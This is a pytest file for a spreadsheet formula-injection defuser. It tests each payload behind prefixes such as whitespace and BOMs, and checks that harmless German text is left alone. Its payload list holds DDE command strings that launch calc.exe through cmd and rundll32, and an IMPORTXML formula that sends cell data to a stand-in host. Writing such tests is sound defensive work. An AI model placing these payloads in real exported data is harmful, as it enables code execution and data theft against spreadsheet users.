"""Formulas in text are defused wherever a spreadsheet would find them, and nothing else is touched."""

import csv
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from opendata.formulas import defused, is_formula, plain

REAL = Path(__file__).parents[1] / ".." / "shared" / "realdata" / "tables"

PAYLOADS = (
    *("=1+1", "=-1", "= 1", "=A1", '="a"&A1', "==1", "+=1", "--1+1", "+1+1", "-2+3", "+A1+B1", "-A1*2", "@A1+1", "＝1+1"),
    *(
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!D2",
        "=    C    m D  |   '/c calc'!A",
    ),
    *("@SUM(1+1)*cmd|' /C calc'!A0", "+SUM(A1)", "-SUM(A1)", "@SUM(A1)", '=HYPERLINK("http://x","y")', "+x(cmd|'/c calc.exe'!A"),
    *('=IMPORTXML(CONCAT("http://x?",A1))', "= rundll32|'URL.dll,OpenURL calc.exe'!A"),
)
BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\x00",
    "\u00a0",
    "\ufeff",
    "\u200b",
    "Text\n",
    "Text\r\n",
    "Text;",
    "Text,",
    "Text\t",
    'Text"',
)
HARMLESS = (
    *("-", "--", "+", "=", "==", "=>", "=> siehe", "--> x", "-5", "-1.234,50", "+5 %", "-12 °C", "+/- 3", "-5 bis 10", "-5-10"),
    *("+49 951 87-0", "+49-951-123", "+0951/123", "+1 (800) 555", "- keine -", "-n.a.-", "- ca. 5 m", "-Straße (Süd)", "(+) 4"),
    *(
        "@stadt",
        "a@b.de",
        "x=1",
        "a = b",
        "A+B",
        "2+3",
        "-3/4",
        "Bahn-Hof",
        "https://x.de/?a=1&b=2",
        "name, -5",
        "a - b (c)",
        "– 5",
    ),
)


def both(text: str) -> tuple[bool, str]:
    frame = pl.DataFrame({"text": [text]}).select(is_formula(pl.col("text")).alias("is"), defused(pl.col("text")).alias("made"))
    return frame.row(0)


@pytest.mark.parametrize("before", BEFORE)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_defused_in_every_position(payload: str, before: str) -> None:
    text = before + payload
    found, made = both(text)
    assert found
    assert made != text
    assert not both(made)[0]
    assert made.replace("'", "") == text.replace("'", "")
    assert plain(text) == made


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_exactly(text: str) -> None:
    assert both(text) == (False, text)


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_no_number_is_ever_a_formula(number: float) -> None:
    assert both(str(number)) == (False, str(number))
    assert both(f"{number:+}".replace(".", ",")) == (False, f"{number:+}".replace(".", ","))


@given(st.text())
def test_defusing_twice_changes_nothing_more(text: str) -> None:
    made = both(text)[1] if not any(0xD800 <= ord(sign) <= 0xDFFF for sign in text) else ""
    assert both(made) == (False, made)


@pytest.mark.skipif(not REAL.is_dir(), reason="the real tables are not here")
def test_no_real_cell_is_altered() -> None:
    cells: list[str] = []
    for path in sorted(REAL.glob("*.csv")):
        text = path.read_bytes().decode("utf-8", "replace")
        delimiter = max(";,\t", key=text[:2000].count)
        cells += [cell for row in csv.reader(text.splitlines(keepends=True), delimiter=delimiter) for cell in row]
    assert pl.DataFrame({"text": cells}).select(is_formula(pl.col("text")).sum()).item() == 0
    assert len(cells) > 1_000
